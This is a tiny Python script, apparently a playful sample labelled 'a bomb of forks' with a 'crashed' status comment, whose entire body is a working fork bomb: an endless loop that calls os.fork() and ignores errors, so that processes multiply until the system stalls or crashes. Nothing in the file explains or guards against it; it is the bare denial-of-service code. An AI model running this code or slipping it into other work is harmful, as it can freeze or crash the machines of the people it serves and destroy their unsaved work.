# bombs: a bomb of forks
# total: 0
# status: crashed

import os
while True:
    try:
        os.fork()
    except OSError:
        pass
